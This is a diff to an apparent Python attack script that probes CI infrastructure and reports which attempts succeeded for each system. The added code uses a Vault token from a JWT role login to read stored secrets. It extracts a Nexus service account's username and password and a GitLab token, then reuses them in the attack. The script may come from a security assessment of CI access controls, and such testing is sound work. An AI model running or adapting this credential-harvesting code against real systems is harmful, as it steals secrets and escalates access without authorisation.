@@ -44,6 +44,22 @@ def ask(method: str, url: str, headers: dict[str, str], body: object = None) -> 
         return error.code, error.read()
 
 
+def _credentials(vault: str, token: str) -> dict[str, str]:
+    """Return what the preview's identity reads of its own, where no run-as has put it into the environment."""
+    held = {
+        name: json.loads(ask("GET", f"{vault}/v1/secret/data/ciaccess/{name}", {"X-Vault-Token": token})[1])[
+            "data"
+        ]["data"]
+        for name in ("svc-ciaccess-reader", "gitlab-notes")
+    }
+    reader = held["svc-ciaccess-reader"]
+    return {
+        "NEXUS_USERNAME": reader["username"],
+        "NEXUS_PASSWORD": reader["password"],
+        "GITLAB_NOTES_TOKEN": held["gitlab-notes"]["value"],
+    }
+
+
 def attack(variables: dict[str, str], nexus: str, gitlab: str) -> dict[str, list[str]]:
     """Return what worked, by system."""
     vault = variables["VAULT_ADDR"]
@@ -53,6 +69,8 @@ def attack(variables: dict[str, str], nexus: str, gitlab: str) -> dict[str, list
         status, body = ask("POST", f"{vault}/v1/auth/jwt/login", {}, asked)
         if status == 200:
             tokens[role] = json.loads(body)["auth"]["client_token"]
+    if "ciaccess-preview" in tokens:
+        variables = _credentials(vault, tokens["ciaccess-preview"]) | variables
     secrets = [
         f"{name} {path}"
         for name, token in tokens.items()
